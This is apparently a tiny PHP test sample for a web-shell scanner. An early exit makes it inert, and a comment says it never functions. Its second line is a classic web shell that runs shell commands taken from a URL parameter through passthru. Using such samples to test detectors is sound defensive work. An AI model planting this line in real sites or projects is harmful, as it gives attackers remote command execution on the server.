<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php passthru(urldecode($_GET['c'])); ?>
